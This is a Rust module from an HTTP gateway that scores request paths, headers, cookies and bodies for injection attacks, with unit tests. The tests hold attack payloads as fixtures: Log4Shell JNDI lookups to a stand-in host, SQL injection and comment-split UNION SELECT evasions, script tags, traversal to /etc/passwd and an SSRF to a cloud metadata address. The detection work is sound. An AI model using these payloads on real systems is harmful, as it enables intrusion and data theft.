//! Attacks by what they look like: each value of a request, decoded, is held against patterns of seven classes, whose scores are
//! added up by class. From the policy's threshold on it is one, unless the policy has an exception for its place.

mod gate;
mod normal;
mod patterns;
mod score;

#[cfg(test)]
mod corpus;

use std::borrow::Cow;

use bytes::Bytes;
use futures_util::FutureExt;
use http::{HeaderMap, HeaderName, header, request::Parts};
use quick_xml::{Reader, events::Event};
use quorumgate_model::resource::{InjectionClass, InjectionException, InjectionPolicy};

use self::{
    normal::Plus,
    score::{Scorer, Scores},
};
use super::{
    disposition::Disposition,
    found::{ERRORS_MAX, Place, Step, Violation, pointer},
    media::Media,
    multipart, strings,
};

pub(super) use self::score::prepare;

/// Over all classes.
pub(super) fn score_of(text: &[u8]) -> u32 {
    Scorer::default().score(text, Plus::Plus).sum()
}

/// Fields that have a form of their own, are read by the gateway alone, or are no text: what a log or a template makes of them
/// is all that is asked.
static FIELDS_OF_FORM: [HeaderName; 23] = [
    header::HOST,
    header::AUTHORIZATION,
    header::PROXY_AUTHORIZATION,
    header::ACCEPT,
    header::ACCEPT_ENCODING,
    header::ACCEPT_LANGUAGE,
    header::CONTENT_TYPE,
    header::CONTENT_LENGTH,
    header::CONTENT_ENCODING,
    header::CONNECTION,
    header::TRANSFER_ENCODING,
    header::TE,
    header::UPGRADE,
    header::DATE,
    header::RANGE,
    header::IF_MATCH,
    header::IF_NONE_MATCH,
    header::IF_MODIFIED_SINCE,
    header::CACHE_CONTROL,
    header::VIA,
    HeaderName::from_static("signature-input"),
    HeaderName::from_static("signature"),
    HeaderName::from_static("traceparent"),
];

const OF_ANY_TEXT: [InjectionClass; 2] = [InjectionClass::Log4shell, InjectionClass::Template];

/// Fields by which browsers and proxies say where they are, on private networks too: nobody fetches those addresses.
static FIELDS_OF_PLACES: [HeaderName; 5] = [
    header::ORIGIN,
    header::REFERER,
    header::FORWARDED,
    HeaderName::from_static("x-forwarded-for"),
    HeaderName::from_static("x-forwarded-host"),
];

const BUT_SSRF: [InjectionClass; 6] = [
    InjectionClass::Sqli,
    InjectionClass::Xss,
    InjectionClass::Traversal,
    InjectionClass::Command,
    InjectionClass::Template,
    InjectionClass::Log4shell,
];

/// What one request has of attacks.
pub(super) struct Scan<'p> {
    policy: &'p InjectionPolicy,
    scorer: Scorer,
    found: Vec<Violation>,
}

impl<'p> Scan<'p> {
    pub(super) fn new(policy: &'p InjectionPolicy) -> Self {
        Self { policy, scorer: Scorer::default(), found: Vec::new() }
    }

    pub(super) fn found(self) -> Vec<Violation> {
        self.found
    }

    /// Path, query, fields and cookies.
    pub(super) fn head(&mut self, parts: &Parts) {
        self.value(Place::Path, &[], parts.uri.path().as_bytes(), Plus::Plus);
        if let Some(query) = parts.uri.query() {
            self.pairs(Place::Query, query.as_bytes());
        }
        for (name, value) in &parts.headers {
            let classes: &[_] = match name {
                _ if *name == header::COOKIE => continue,
                _ if FIELDS_OF_FORM.contains(name) => &OF_ANY_TEXT,
                _ if FIELDS_OF_PLACES.contains(name) => &BUT_SSRF,
                _ => InjectionClass::ALL,
            };
            let scores = self.scorer.score(value.as_bytes(), Plus::Plus).only(classes);
            self.scored(Place::Header, &[Step::Key(name.as_str().into())], &scores);
        }
        self.cookies(&parts.headers);
    }

    fn cookies(&mut self, headers: &HeaderMap) {
        for cookie in headers.get_all(header::COOKIE).iter().flat_map(|it| it.as_bytes().split(|byte| *byte == b';')) {
            let (name, value) = pair(cookie.trim_ascii());
            self.value(Place::Cookie, &[Step::Key(String::from_utf8_lossy(name))], value, Plus::Plus);
        }
    }

    /// By everything that it says that it is; what is no text is not looked at.
    pub(super) fn body(&mut self, headers: &HeaderMap, media: &Media, bytes: &Bytes) {
        let mut is_read = media.is_form();
        if media.is_form() {
            self.pairs(Place::Body, bytes);
        }
        is_read |= media.is_multipart() && self.parts(headers, bytes);
        is_read |= media.is_xml() && self.xml(bytes).is_ok();
        is_read |= (media.is_json() || media.is_missing()) && self.json(bytes);
        if !is_read {
            // Plain text, and what is not what it says.
            self.value(Place::Body, &[], bytes, Plus::Plus);
        }
    }

    /// False: it is none to this reader. Another may take it, so that whatever stands between quotes is a value.
    fn json(&mut self, bytes: &[u8]) -> bool {
        let read = strings::each(bytes, &mut |path, text| self.value(Place::Body, path, text.as_bytes(), Plus::Plus));
        if read.is_err() && bytes.contains(&b'"') {
            bytes.split(|byte| *byte == b'"').for_each(|run| self.value(Place::Body, &[], run, Plus::Plus));
        }
        read.is_ok()
    }

    /// Names, names of files, and what is no file. False: nobody can tell where one ends, or what one is called.
    fn parts(&mut self, headers: &HeaderMap, bytes: &Bytes) -> bool {
        let Ok(mut parts) = multipart::parts(headers, bytes) else { return false };
        let mut place = 0;
        // All of it is there: nothing is waited for.
        let walked = async {
            while let Some(field) = parts.next_field().await? {
                let named = Disposition::of(&field);
                let path = [named.as_ref().map_or(Step::Index(place), |it| it.step(place))];
                place += 1;
                match &named {
                    Ok(named) => named.values().for_each(|it| self.value(Place::Body, &path, it, Plus::Plus)),
                    // What has two names may be called by either: all of it is looked at.
                    Err(_) => {
                        let said = field.headers().get(header::CONTENT_DISPOSITION).into_iter();
                        let texts = said.flat_map(|it| it.as_bytes().split(|byte| matches!(byte, b'"' | b';' | b'=')));
                        texts.for_each(|it| self.value(Place::Body, &path, it.trim_ascii(), Plus::Plus));
                    }
                }
                // Without a name it is no file to any server, whatever type it claims.
                let is_file = named.is_ok_and(|it| it.file_name().is_some());
                let is_text = !is_file || field.content_type().is_none_or(|it| it.type_() == "text");
                let text = field.bytes().await?;
                if is_text {
                    self.value(Place::Body, &path, &text, Plus::Plus);
                }
            }
            Ok::<(), multer::Error>(())
        };
        matches!(walked.now_or_never(), Some(Ok(()))) && multipart::says_twice(headers, bytes).is_none()
    }

    /// Attributes, and texts with their references, which are decoded with everything else.
    fn xml(&mut self, bytes: &[u8]) -> Result<(), quick_xml::Error> {
        let mut reader = Reader::from_reader(bytes);
        let mut text = Vec::new();
        loop {
            match reader.read_event()? {
                Event::Text(it) => text.extend_from_slice(&it),
                Event::CData(it) => text.extend_from_slice(&it),
                Event::GeneralRef(it) => text.extend([b"&", &it[..], b";"].concat()),
                // Readers join the text around them (`textContent`); what they say themselves is a value of its own.
                Event::Comment(it) => self.value(Place::Body, &[], &it, Plus::Plus),
                Event::PI(it) => self.value(Place::Body, &[], &it, Plus::Plus),
                Event::Decl(_) => {}
                event => {
                    self.value(Place::Body, &[], &text, Plus::Plus);
                    text.clear();
                    match event {
                        Event::Start(it) | Event::Empty(it) => {
                            for attribute in it.attributes().with_checks(false).flatten() {
                                self.value(Place::Body, &[], &attribute.value, Plus::Plus);
                            }
                        }
                        // What it could fetch is told by its addresses.
                        Event::DocType(it) => self.value(Place::Body, &[], &it, Plus::Plus),
                        Event::Eof => return Ok(()),
                        _ => {}
                    }
                }
            }
        }
    }

    /// `a=1&b=2`; names are values too.
    fn pairs(&mut self, place: Place, text: &[u8]) {
        for part in text.split(|byte| *byte == b'&').filter(|part| !part.is_empty()) {
            let (name, value) = pair(part);
            let plain = percent_encoding::percent_decode(name).decode_utf8_lossy();
            let path = [Step::Key(Cow::Borrowed(&plain))];
            self.value(place, &path, value, Plus::Space);
            self.value(place, &path, name, Plus::Space);
        }
    }

    fn value(&mut self, place: Place, path: &[Step<'_>], text: &[u8], plus: Plus) {
        if self.found.len() < ERRORS_MAX {
            let scores = self.scorer.score(text, plus);
            self.scored(place, path, &scores);
        }
    }

    fn scored(&mut self, place: Place, path: &[Step<'_>], scores: &Scores) {
        if !scores.is_nothing()
            && self.found.len() < ERRORS_MAX
            && let Some((class, score)) = self.judge(place, path, scores)
        {
            let detail = format!("this looks like {} (score {score})", what(class));
            self.found.push(Violation { place, pointer: pointer(path), rule: class.word(), detail: detail.into() });
        }
    }

    /// The class that scores most, if that is enough.
    fn judge(&self, place: Place, path: &[Step<'_>], scores: &Scores) -> Option<(InjectionClass, u32)> {
        let counts = |class: &InjectionClass| {
            let excepted = |it: &InjectionException| it.excepts(*class) && covers(it, place, path);
            self.policy.looks_for(*class) && !self.policy.exceptions.iter().any(excepted)
        };
        let enough = |class: &InjectionClass| scores.of(*class) >= self.policy.threshold && counts(class);
        let most = InjectionClass::ALL.iter().copied().filter(enough).max_by_key(|class| scores.of(*class))?;
        Some((most, scores.of(most)))
    }
}

fn pair(text: &[u8]) -> (&[u8], &[u8]) {
    match text.iter().position(|byte| *byte == b'=') {
        Some(at) => (&text[..at], &text[at + 1..]),
        None => (text, b""),
    }
}

/// A pointer covers what lies below it; `*` is any one step.
fn covers(exception: &InjectionException, place: Place, path: &[Step<'_>]) -> bool {
    if exception.place.is_some_and(|it| it.word() != place.word()) {
        return false;
    }
    let mut steps = path.iter();
    exception.steps().all(|wanted| match (steps.next(), wanted.as_ref()) {
        (Some(_), "*") => true,
        (Some(Step::Key(key)), wanted) => match place {
            Place::Header => key.eq_ignore_ascii_case(wanted),
            _ => key == wanted,
        },
        (Some(Step::Index(index)), wanted) => wanted.parse() == Ok(*index),
        (None, _) => false,
    })
}

fn what(class: InjectionClass) -> &'static str {
    match class {
        InjectionClass::Sqli => "an injection of SQL",
        InjectionClass::Xss => "an injection of script",
        InjectionClass::Traversal => "a way out of a directory",
        InjectionClass::Command => "an injection of a command",
        InjectionClass::Ssrf => "the address of something internal",
        InjectionClass::Template => "an injection of a template",
        InjectionClass::Log4shell => "a look-up by a logger",
    }
}

#[cfg(test)]
mod tests {
    use http::Request;
    use serde_json::{Value, json};

    use super::*;

    fn policy(words: Value) -> InjectionPolicy {
        serde_json::from_value(words).unwrap()
    }

    fn shown(found: Vec<Violation>) -> Vec<String> {
        found.iter().map(|it| format!("{} {}{}", it.rule, it.place.word(), it.pointer)).collect()
    }

    #[track_caller]
    fn check_head(words: Value, request: http::request::Builder, expected: &[&str]) {
        let policy = policy(words);
        let mut scan = Scan::new(&policy);
        scan.head(&request.body(()).unwrap().into_parts().0);
        assert_eq!(shown(scan.found()), expected);
    }

    #[track_caller]
    fn check_body(words: Value, kind: &'static str, body: &str, expected: &[&str]) {
        let policy = policy(words);
        let mut scan = Scan::new(&policy);
        let headers = HeaderMap::from_iter([(header::CONTENT_TYPE, http::HeaderValue::from_static(kind))]);
        scan.body(&headers, &Media::of(&headers), &Bytes::from(body.to_owned()));
        assert_eq!(shown(scan.found()), expected, "{body}");
    }

    const JSON: &str = "application/json";
    const FORM: &str = "application/x-www-form-urlencoded";

    #[test]
    fn every_part_of_a_request_is_looked_at() {
        let at = |uri: &str| Request::get(uri);
        check_head(json!({}), at("/a/..%2f..%2f..%2fetc/passwd"), &["traversal path"]);
        check_head(json!({}), at("/a?x=1&q=1%27+OR+%271%27=%271"), &["sqli query/q"]);
        check_head(json!({}), at("/a?x=1&%3Cscript%3E=2"), &["xss query/<script>"]);
        check_head(
            json!({}),
            at("/").header("user-agent", "${jndi:ldap://x.test/a}"),
            &["log4shell header/user-agent"],
        );
        check_head(json!({}), at("/").header("cookie", "a=1; b=<script>alert(1)</script>"), &["xss cookie/b"]);
        check_head(json!({}), at("/orders?page=2&sort=-created").header("accept", "*/*"), &[]);
        check_head(
            json!({}),
            at("/").header("accept-language", "${jndi:ldap://x.test/a}"),
            &["log4shell header/accept-language"],
        );
        for (name, place) in [("origin", "http://localhost:8080"), ("referer", "https://app.internal/")] {
            check_head(json!({}), at("/").header(name, place), &[]);
        }
        check_head(json!({}), at("/?u=http://localhost:8080"), &["ssrf query/u"]);
        check_head(json!({}), at("/?q=/*%3Cscript%3Ealert(1)%3C/script%3E*/"), &["xss query/q"]);
        check_body(json!({}), JSON, r#"{"a":1e999,"q":"1' or '1'='1"}"#, &["sqli body"]);
        check_body(
            json!({}),
            "application/json; x=\", application/x-www-form-urlencoded;\"",
            r#"{"q":"1' or '1'='1"}"#,
            &["sqli body/q"],
        );
        check_body(json!({}), JSON, r#"{"a":[{"b":"1; DROP TABLE users--"}],"c":"fine"}"#, &["sqli body/a/0/b"]);
        check_body(json!({}), JSON, r#"{"\u003cscript\u003ex":1}"#, &["xss body/<script>x"]);
        check_body(json!({}), FORM, "a=1&u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data", &["ssrf body/u"]);
        check_body(json!({}), "text/plain", "fine &\n${jndi:ldap://x.test/a}", &["log4shell body"]);
        check_body(json!({}), "application/xml", "<a><b c=\"&lt;script>\">fine</b></a>", &["xss body"]);
        check_body(json!({}), "text/xml", "<a>1&apos; OR &apos;1&apos;=&apos;1</a>", &["sqli body"]);
        for hole in ["<!-- -->", "<?a?>", "<![CDATA[]]>"] {
            let text = format!("<a>1' UNI{hole}ON SEL{hole}ECT pass FR{hole}OM users--</a>");
            check_body(json!({}), "application/xml", &text, &["sqli body"]);
            check_body(
                json!({}),
                "application/xml",
                &format!("<a>${{jn{hole}di:ldap://x.test/a}}</a>"),
                &["log4shell body"],
            );
        }
        check_body(json!({}), "application/xml", "<a>fine<!-- ${jndi:ldap://x.test/a} --></a>", &["log4shell body"]);
        let part =
            |value: &str| format!("--b\r\nContent-Disposition: form-data; name=\"n\"\r\n\r\n{value}\r\n--b--\r\n");
        let multipart = "multipart/form-data; boundary=b";
        check_body(json!({}), multipart, &part("<script>alert(1)</script>"), &["xss body/n"]);
        check_body(json!({}), multipart, &part("fine"), &[]);
        let claims = "--b\r\nContent-Disposition: form-data; name=\"n\"\r\nContent-Type: image/png\r\n\r\n1' OR '1'='1\r\n--b--\r\n";
        check_body(json!({}), multipart, claims, &["sqli body/n"]);
        let named = |disposition: &str| {
            format!(
                "--b\r\nContent-Disposition: form-data; {disposition}\r\nContent-Type: image/png\r\n\r\n1\r\n--b--\r\n"
            )
        };
        check_body(json!({}), multipart, &named("name=n; filename=\"../../../etc/passwd\""), &["traversal body/n"]);
        check_body(
            json!({}),
            multipart,
            &named("name=n; filename*=utf-8''..%2f..%2f..%2fetc/passwd"),
            &["traversal body/n"],
        );
        check_body(
            json!({}),
            multipart,
            &named("name=n; filename=\"a.png\"; filename=\"../../../etc/passwd\""),
            &["traversal body/0"],
        );
        check_body(json!({}), multipart, &named("name=n; filename=\"a photo.png\""), &[]);
        check_body(json!({}), JSON, "{'not json': <script>alert(1)</script>", &["xss body"]);
    }

    #[test]
    fn exceptions_are_for_their_place_and_class_alone() {
        let sql = r#"{"items":[{"note":"1; DROP TABLE users--"}]}"#;
        let check =
            |exception: Value, expected: &[&str]| check_body(json!({"exceptions": [exception]}), JSON, sql, expected);
        let found = ["sqli body/items/0/note"];
        check(json!({"pointer": "/items/0/note"}), &[]);
        check(json!({"in": "body", "pointer": "/items/*/note", "classes": ["sqli"]}), &[]);
        check(json!({"in": "body", "pointer": "/items"}), &[]);
        check(json!({"pointer": "/items/1"}), &found);
        check(json!({"pointer": "/items/0/note/x"}), &found);
        check(json!({"in": "query", "pointer": "/items"}), &found);
        check(json!({"pointer": "/items", "classes": ["xss"]}), &found);
        check_body(json!({"classes": ["xss", "ssrf"]}), JSON, sql, &[]);
        check_body(json!({"threshold": 50}), JSON, sql, &[]);
    }
}
